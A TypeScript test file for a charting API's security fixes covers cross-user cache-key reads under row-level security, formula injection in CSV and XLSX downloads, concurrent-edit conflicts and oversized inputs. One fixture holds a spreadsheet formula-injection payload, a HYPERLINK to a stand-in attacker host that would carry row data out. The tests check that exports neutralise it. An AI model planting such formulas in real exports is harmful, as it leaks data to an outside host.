import { datasourceView } from '@tessera/shared/permissions';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { CHARTS, chartBody, saveChart } from '../../charts/testFixtures.ts';
import { CHART_DATA_LIMITS } from '../../charts-data/inputLimits.ts';
import { addShopDatabase, createDataset, grantToRole } from '../../datasets/testFixtures.ts';
import { createTestApp, type TestApp } from '../../testing/harness.ts';
import { securityRepository } from '../repository.ts';

/**
 * Issue 21 on charts, performed: a cached chart-data entry read by another user's key (item 5),
 * formula cells in chart-data downloads (12), two editors saving one chart (13), oversized
 * expressions and labels (2).
 */

const DATA = '/api/v1/chart/data';
let t: TestApp;
let sales: number;

const query = (extra: Record<string, unknown> = {}) => ({
  datasource: { id: sales, type: 'table' },
  queries: [
    {
      columns: ['region'],
      metrics: [{ expressionType: 'SQL', sqlExpression: 'SUM(amount)', label: 'total' }],
      orderby: [['region', true]],
      ...extra,
    },
  ],
});

beforeAll(async () => {
  t = await createTestApp();
  const shop = await addShopDatabase(t);
  sales = await createDataset(t, { database: shop.id, schema: 'main', table_name: 'sales' });
  await grantToRole(t, 'Gamma', ['datasource_access', datasourceView('shop', 'sales', sales)]);
  // Gamma (user A) sees only the EU rows; Alpha (user B) has no rule and sees every row.
  const gamma = await securityRepository.getRoleByName(t.store.db, 'Gamma');
  const rule = await t.call('admin', {
    method: 'POST',
    url: '/api/v1/rowlevelsecurity/',
    payload: {
      name: 'EU only',
      filter_type: 'Regular',
      tables: [sales],
      roles: [gamma?.id],
      clause: "region = 'EU'",
    },
  });
  if (rule.statusCode !== 201) throw new Error(`RLS rule not created: ${rule.body}`);
});
afterAll(async () => {
  await t?.close();
});

describe('a cached chart-data entry read by its key (issue 21 item 5)', () => {
  const keyOf = async (caller: 'alpha' | 'gamma') => {
    const res = await t.call(caller, { method: 'POST', url: DATA, payload: query() });
    expect(res.statusCode, res.body).toBe(200);
    return res.json().result[0] as { cache_key: string; data: Array<{ region: string }> };
  };
  const readKey = (caller: 'alpha' | 'gamma', key: string) =>
    t.call(caller, { method: 'GET', url: `${DATA}/${key}` });

  it('is refused to a user whose row-level security differs, both ways', async () => {
    const a = await keyOf('gamma');
    const b = await keyOf('alpha');
    expect(a.data.map((r) => r.region)).toEqual(['EU']);
    expect(b.data.map((r) => r.region)).toEqual(['EU', 'US']);
    expect(a.cache_key).not.toBe(b.cache_key);

    // B with A's key: A's entry was built under A's clauses, not B's.
    const bReadsA = await readKey('alpha', a.cache_key);
    expect(bReadsA.statusCode).toBe(404);
    expect(bReadsA.json()).toEqual({ message: 'Cached data not found' });
    // A with B's key: B's entry holds the US rows A's rule hides.
    const aReadsB = await readKey('gamma', b.cache_key);
    expect(aReadsB.statusCode).toBe(404);
    expect(aReadsB.body).not.toContain('US');
  });

  it('still serves each user their own entry', async () => {
    const a = await keyOf('gamma');
    const own = await readKey('gamma', a.cache_key);
    expect(own.statusCode).toBe(200);
    expect(own.json().result[0].data).toEqual([{ region: 'EU', total: 15.75 }]);
    const b = await keyOf('alpha');
    expect((await readKey('alpha', b.cache_key)).json().result[0].data).toHaveLength(2);
  });

  it('refuses anonymous callers before looking the key up', async () => {
    const a = await keyOf('gamma');
    expect((await readKey('gamma', a.cache_key)).statusCode).toBe(200);
    const res = await t.call('anonymous', { method: 'GET', url: `${DATA}/${a.cache_key}` });
    expect(res.statusCode).toBe(401);
  });
});

describe('formula cells in chart-data downloads (issue 21 item 12)', () => {
  const formulaQuery = (format: 'csv' | 'xlsx') => ({
    ...query({
      columns: [
        {
          expressionType: 'SQL',
          sqlExpression: `'=HYPERLINK("http://evil.example/"||region,"x")'`,
          label: '@cmd',
        },
      ],
      metrics: [{ expressionType: 'SQL', sqlExpression: '-SUM(amount)', label: '+minus' }],
      orderby: [],
    }),
    result_format: format,
  });

  it('neutralises text cells and labels in CSV, and leaves negative numbers numbers', async () => {
    const res = await t.call('admin', { method: 'POST', url: DATA, payload: formulaQuery('csv') });
    expect(res.statusCode, res.body).toBe(200);
    const lines = res.body.trim().split('\n');
    expect(lines[0]).toBe(`'@cmd,'+minus`);
    for (const line of lines.slice(1)) {
      expect(line).toMatch(/^"'=HYPERLINK\(/);
      expect(line).toMatch(/,-\d/);
    }
  });

  it('neutralises text cells and labels in XLSX', async () => {
    const res = await t.call('admin', { method: 'POST', url: DATA, payload: formulaQuery('xlsx') });
    expect(res.statusCode).toBe(200);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(res.rawPayload as unknown as ArrayBuffer);
    const sheet = workbook.worksheets[0] as ExcelJS.Worksheet;
    expect(sheet.getRow(1).values).toEqual([undefined, "'@cmd", "'+minus"]);
    const cell = sheet.getRow(2).getCell(1);
    expect(cell.type).not.toBe(ExcelJS.ValueType.Formula);
    expect(String(cell.value)).toMatch(/^'=HYPERLINK/);
    expect(typeof sheet.getRow(2).getCell(2).value).toBe('number');
  });
});

describe('two editors saving one chart (issue 21 item 13)', () => {
  const OLD = '2024-01-01T00:00:00.000Z';

  /** A chart both editors opened when it was last changed at OLD. */
  const openedChart = async () => {
    const id = await saveChart(t, 'alpha', chartBody(sales));
    await t.store.db.updateTable('slices').set({ changed_on: OLD }).where('id', '=', id).execute();
    return id;
  };
  const put = (id: number, payload: Record<string, unknown>, headers = {}) =>
    t.call('alpha', { method: 'PUT', url: `${CHARTS}/${id}`, payload, headers });

  it('answers 409 to the later save instead of overwriting the earlier one', async () => {
    const id = await openedChart();
    const loaded = Date.parse(OLD) / 1000;
    const first = await put(id, { slice_name: 'First editor', last_modified_time: loaded });
    expect(first.statusCode, first.body).toBe(200);
    const second = await put(id, { slice_name: 'Second editor', last_modified_time: loaded });
    expect(second.statusCode).toBe(409);
    expect(second.json().message).toMatch(/changed by someone else.*Reload.*overwrite/);
    const item = await t.call('alpha', { method: 'GET', url: `${CHARTS}/${id}` });
    expect(item.json().result.slice_name).toBe('First editor');
    // Overwriting is a deliberate second save without the precondition.
    expect((await put(id, { slice_name: 'Second editor' })).statusCode).toBe(200);
  });

  it('takes the precondition from If-Unmodified-Since as well', async () => {
    const id = await openedChart();
    const since = new Date(OLD).toUTCString();
    expect((await put(id, { slice_name: 'A' }, { 'if-unmodified-since': since })).statusCode).toBe(
      200,
    );
    const late = await put(id, { slice_name: 'B' }, { 'if-unmodified-since': since });
    expect(late.statusCode).toBe(409);
  });

  it('lets a save that loaded the current version through, and the same editor save again', async () => {
    const id = await openedChart();
    const fresh = Date.parse(OLD) / 1000 + 0.5;
    const first = await put(id, { slice_name: 'Fine', last_modified_time: fresh });
    expect(first.statusCode).toBe(200);
    // The answer says when the chart changed: the editor's next save states that version.
    const { last_modified_time } = first.json();
    expect(last_modified_time).toBeGreaterThan(Date.parse(OLD) / 1000);
    const again = await put(id, { slice_name: 'Finer', last_modified_time });
    expect(again.statusCode, again.body).toBe(200);
  });
});

describe('oversized chart-data inputs (issue 21 item 2)', () => {
  const fieldsOf = (body: string) => Object.keys(JSON.parse(body).message ?? {});

  it('refuses a 100,000-letter metric, label or filter with 400 naming the field', async () => {
    const long = 'a'.repeat(100_000);
    const res = await t.call('admin', {
      method: 'POST',
      url: DATA,
      payload: query({
        metrics: [{ expressionType: 'SQL', sqlExpression: long, label: long }],
        filters: [{ col: 'region', op: 'IN', val: ['EU', long] }],
        extras: { where: long },
      }),
    });
    expect(res.statusCode).toBe(400);
    expect(fieldsOf(res.body).sort()).toEqual([
      'queries.0.extras.where',
      'queries.0.filters.0.val.1',
      'queries.0.metrics.0.label',
      'queries.0.metrics.0.sqlExpression',
    ]);
    expect(JSON.parse(res.body).message['queries.0.metrics.0.sqlExpression'][0]).toMatch(
      `longer than ${CHART_DATA_LIMITS.expression} characters`,
    );
  });

  it('answers quickly, without compiling the oversized text', async () => {
    const started = performance.now();
    const res = await t.call('admin', {
      method: 'POST',
      url: DATA,
      payload: query({ columns: ['x'.repeat(2_000_000)] }),
    });
    expect(res.statusCode).toBe(400);
    expect(fieldsOf(res.body)).toEqual(['queries.0.columns.0']);
    expect(performance.now() - started).toBeLessThan(1_000);
  });

  it('spends under a second on a body at the 10 MB limit', async () => {
    const metric = { expressionType: 'SQL', sqlExpression: 'm'.repeat(10 * 1024 * 1024 - 512) };
    const started = performance.now();
    const res = await t.call('admin', {
      method: 'POST',
      url: DATA,
      payload: query({ metrics: [metric] }),
    });
    expect(res.statusCode).toBe(400);
    expect(performance.now() - started).toBeLessThan(1_000);
  });

  it('refuses an oversized adhoc column in a batch entry', async () => {
    const res = await t.call('admin', {
      method: 'POST',
      url: `${DATA}/batch`,
      payload: {
        queries: [query({ columns: [{ sqlExpression: 'b'.repeat(20_000), label: 'b' }] })],
      },
    });
    expect(res.statusCode).toBe(200);
    expect(res.json().result[0]).toMatchObject({
      status: 400,
      message: { 'queries.0.columns.0.sqlExpression': [expect.stringMatching(/longer than/)] },
    });
  });
});
